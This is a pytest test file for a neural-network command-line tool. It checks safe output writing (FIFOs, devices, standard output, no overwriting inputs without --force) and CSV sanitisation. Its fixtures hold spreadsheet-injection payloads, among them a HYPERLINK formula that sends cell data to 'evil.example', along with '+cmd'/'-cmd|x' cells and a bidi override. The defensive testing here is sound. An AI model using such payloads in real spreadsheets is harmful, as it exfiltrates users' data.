"""Outputs the user names (`nnfs predict --output`, `nnfs export -o`): written into a FIFO, a
device or standard output, renamed only over regular files, never over one of the inputs or
the run's own files, an existing file only with --force; and what goes into a CSV output
cannot start a spreadsheet formula (#28 items 1 and 5, small items)."""

import csv
import io
import os
import shutil
import socket
import stat

import numpy as np
import pytest

from hostile import assert_one_line, leftovers, nnfs, tree


@pytest.fixture
def spiral_copy(spiral, tmp_path):
    return shutil.copytree(spiral, tmp_path / "spiral")


@pytest.fixture
def rows(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text("0.1,0.2\n0.3,-0.4\n")
    return path


def open_reader(path):
    """A reader on the FIFO `path`, opened without waiting for a writer; what nnfs writes
    (a few KB) waits in the pipe's buffer until it is read."""
    os.mkfifo(path)
    return os.open(path, os.O_RDONLY | os.O_NONBLOCK)


def drain(fd):
    chunks = []
    while True:
        try:
            chunk = os.read(fd, 1 << 16)
        except BlockingIOError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(fd)
    return b"".join(chunks)


# --- item 1: a FIFO, a device, standard output -----------------------------------------


def test_predict_writes_into_a_fifo_and_leaves_it_a_fifo(spiral_copy, rows, tmp_path):
    pipe = tmp_path / "predictions.pipe"
    reader = open_reader(pipe)
    before = tree(tmp_path)
    result = nnfs("predict", rows, "--run", spiral_copy, "--output", pipe)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    written = drain(reader).decode()
    assert written.splitlines()[0] == ("path,row,prediction,confidence,probability_class 0,"
                                       "probability_class 1,probability_class 2")
    assert len(written.splitlines()) == 3
    assert tree(tmp_path) == before and not leftovers(tmp_path)


def test_export_writes_into_a_fifo_and_leaves_it_a_fifo(spiral_copy, tmp_path):
    pipe = tmp_path / "model.pipe"
    reader = open_reader(pipe)
    before = tree(tmp_path)
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", pipe)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"wrote {pipe} (NumPy arrays")
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    arrays = np.load(io.BytesIO(drain(reader)), allow_pickle=False)
    assert arrays["model[0].weights"].shape == (2, 16)
    assert tree(tmp_path) == before and not leftovers(tmp_path)


def test_a_link_to_a_device_is_written_through(spiral_copy, rows, tmp_path):
    null = tmp_path / "null"
    os.symlink("/dev/null", null)
    for args in (["predict", rows, "--run", spiral_copy, "--output", null],
                 ["export", spiral_copy, "--format", "npz", "-o", null]):
        result = nnfs(*args)
        assert result.returncode == 0, result.stderr
        assert os.readlink(null) == "/dev/null" and stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null", "rows.csv", "spiral"]


def test_dash_is_standard_output(spiral_copy, rows, tmp_path):
    result = nnfs("predict", rows, "--run", spiral_copy, "--output", "-", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    table = list(csv.reader(io.StringIO(result.stdout)))
    assert table[0][:4] == ["path", "row", "prediction", "confidence"] and len(table) == 3
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", "-", cwd=tmp_path,
                  stdout=open(tmp_path / "captured", "wb"))
    assert result.returncode == 0, result.stderr
    assert result.stderr.startswith("wrote standard output (NumPy arrays")
    arrays = np.load(tmp_path / "captured", allow_pickle=False)
    assert "description" in arrays.files
    assert not (tmp_path / "-").exists()
    result = nnfs("predict", rows, "--run", spiral_copy, "--output", "-", "--json")
    assert_one_line(result, 2, "--output - and --json would both write to standard output")


def test_places_that_cannot_take_an_output_are_refused(spiral_copy, rows, tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    to_folder = tmp_path / "to-folder"
    os.symlink(folder, to_folder)
    dangling = tmp_path / "dangling"
    os.symlink(tmp_path / "nowhere" / "x.csv", dangling)
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "sock"))
    before = tree(tmp_path)
    try:
        for target, message in [
                (to_folder, "is a directory; give a file name"),
                (dangling, f"is a link to {tmp_path / 'nowhere' / 'x.csv'}, which does not "
                           "exist"),
                (tmp_path / "sock", "is a socket; an output can be a regular file, a FIFO, "
                                    "a character device or - (standard output)")]:
            result = nnfs("export", spiral_copy, "--format", "npz", "-o", target)
            assert_one_line(result, 2, f"-o {target}: {message}")
            result = nnfs("predict", rows, "--run", spiral_copy, "--output", target)
            assert_one_line(result, 2, f"--output {target}: {message}")
    finally:
        sock.close()
    assert os.path.islink(to_folder) and os.path.islink(dangling)
    assert stat.S_ISSOCK(os.lstat(tmp_path / "sock").st_mode)
    assert tree(tmp_path) == before and not leftovers(tmp_path)


# --- item 5: never an input or a run's file, an existing file only with --force -----------


def test_predict_never_writes_over_its_inputs_or_the_run(spiral_copy, rows, tmp_path):
    os.link(rows, tmp_path / "same-rows.csv")
    before = tree(tmp_path)
    for target, message in [
            (rows, "is one of the inputs"),
            (tmp_path / "same-rows.csv", "is one of the inputs"),   # a hard link to it
            (spiral_copy / "params.pkl", f"is params.pkl, a file of the run {spiral_copy}"),
            (spiral_copy / "summary.json", f"is summary.json, a file of the run {spiral_copy}")]:
        for force in ([], ["--force"]):
            result = nnfs("predict", rows, "--run", spiral_copy, "--output", target, *force)
            assert_one_line(result, 2, f"--output {target}: {message}; write the output "
                                       "elsewhere")
            assert result.stdout == ""
    assert tree(tmp_path) == before
    mine = spiral_copy / "preds.csv"   # a file of the user's in the run's folder is theirs
    for force in ([], ["--force"]):
        result = nnfs("predict", rows, "--run", spiral_copy, "--output", mine, *force)
        assert result.returncode == 0, result.stderr
    assert mine.read_text().startswith("path,row,prediction,confidence,probability_class 0,")


def test_predict_replaces_an_existing_file_only_with_force(spiral_copy, rows, tmp_path):
    out = tmp_path / "out.csv"
    out.write_text("keep me\n")
    before = tree(tmp_path)
    result = nnfs("predict", rows, "--run", spiral_copy, "--output", out)
    assert_one_line(result, 2, f"--output {out}: already exists; pass --force to replace it")
    assert tree(tmp_path) == before
    result = nnfs("predict", rows, "--run", spiral_copy, "--output", out, "--force")
    assert result.returncode == 0, result.stderr
    assert out.read_text().startswith("path,row,prediction,confidence,probability_class 0,")
    assert not leftovers(tmp_path)


def test_export_never_writes_over_the_run_and_asks_before_replacing(spiral_copy, tmp_path):
    before = tree(tmp_path)
    for name in ("params.pkl", "config.yaml", "checkpoint.pkl"):
        for force in ([], ["--force"]):
            result = nnfs("export", spiral_copy, "--format", "npz", "-o", spiral_copy / name,
                          *force)
            assert_one_line(result, 2, f"-o {spiral_copy / name}: is {name}, a file of the "
                                       f"run {spiral_copy}; write the output elsewhere")
    assert tree(tmp_path) == before
    # Its own default file is the tool's to write again, with or without -o.
    for args in ([], [], ["-o", spiral_copy / "model.npz"]):
        result = nnfs("export", spiral_copy, "--format", "npz", *args)
        assert result.returncode == 0, result.stderr
    model = tmp_path / "model.npz"
    model.write_bytes(b"someone else's file")
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", model)
    assert_one_line(result, 2, f"-o {model}: already exists; pass --force to replace it")
    assert model.read_bytes() == b"someone else's file"
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", model, "--force")
    assert result.returncode == 0, result.stderr
    assert "description" in np.load(model).files
    changed = {path for path, data in tree(tmp_path).items() if before.get(path) != data}
    assert changed == {model.relative_to(tmp_path),
                       (spiral_copy / "model.npz").relative_to(tmp_path)}


@pytest.mark.skipif(not os.path.isfile("/proc/version"), reason="needs /proc")
def test_a_kernel_file_is_not_said_to_be_missing(spiral_copy):
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", "/proc/version")
    assert_one_line(result, 2, "-o /proc/version: already exists; pass --force to replace it")
    result = nnfs("export", spiral_copy, "--format", "npz", "-o", "/proc/version", "--force")
    line = assert_one_line(result, 1, "/proc/version: cannot write: ")
    assert "No such file or directory" not in line   # root: "Input/output error"


# --- small items: what the CSV output and the lines hold ----------------------------------

LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "line\nbreak", "bidi\u202eevil"]


@pytest.fixture(scope="module")
def hostile_labels(tmp_path_factory):
    """A csv run whose class names are a spreadsheet formula, a line break and a bidi
    override, and whose text column holds cells that look like formulas."""
    folder = tmp_path_factory.mktemp("labels")
    rng = np.random.default_rng(0)
    with open(folder / "train.csv", "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["x", "tag", "label"])
        for index in range(90):
            label = index % 3
            writer.writerow([f"{label * 2 + rng.normal(0, 0.1):.3f}",
                             ["@SUM(1)", "+cmd", "plain"][index // 3 % 3], LABELS[label]])
    (folder / "config.yaml").write_text(
        "seed: 0\ndata: {name: csv, path: train.csv, target: label}\n"
        "model: [{dense: {units: 8}}, relu, {dense: {units: 3}}, softmax]\n"
        "loss: categorical_crossentropy\noptimizer: {name: adam, learning_rate: 0.05}\n"
        "training: {epochs: 30, batch_size: 32}\n")
    result = nnfs("train", "config.yaml", "--run-dir", "run", "-q", cwd=folder)
    assert result.returncode == 0, result.stderr
    return folder, folder / "run"


def test_csv_output_cells_cannot_start_a_formula(hostile_labels, tmp_path):
    _, run = hostile_labels
    rows = tmp_path / "rows.csv"
    rows.write_text("x,tag,note\n-3.5,@SUM(1),=1+2\n0.0,+cmd,-2\n2.0,plain,-cmd|x\n"
                    "4.0,plain,ok\n")   # another column is kept in the output
    out = tmp_path / "out.csv"
    result = nnfs("predict", rows, "--run", run, "--output", out)
    assert result.returncode == 0, result.stderr
    with open(out, newline="") as f:
        table = list(csv.reader(f))
    assert table[0][:5] == ["x", "tag", "note", "prediction", "confidence"]
    assert [row[:3] for row in table[1:]] == [
        ["-3.5", "'@SUM(1)", "'=1+2"], ["0.0", "'+cmd", "-2"], ["2.0", "plain", "'-cmd|x"],
        ["4.0", "plain", "ok"]]
    predicted = [row[3] for row in table[1:]]
    assert predicted[0] == "'" + LABELS[0] and predicted[3] == LABELS[2]
    for cell in (cell for row in table for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
            not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit())


def test_class_names_with_line_breaks_or_bidi_controls_stay_on_one_line(hostile_labels,
                                                                        tmp_path):
    _, run = hostile_labels
    rows = tmp_path / "rows.csv"
    rows.write_text("x,tag\n2.0,plain\n4.0,plain\n")
    result = nnfs("predict", rows, "--run", run)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and "\u202e" not in result.stdout
    assert lines[0].startswith(f"{rows}:2: line\\nbreak ")
    assert lines[1].startswith(f"{rows}:3: bidi\\u202eevil ")
    result = nnfs("evaluate", run)
    assert result.returncode == 0, result.stderr
    assert "\u202e" not in result.stdout and " 2 line\\nbreak" in result.stdout
    assert all(line.isprintable() for line in result.stdout.splitlines())
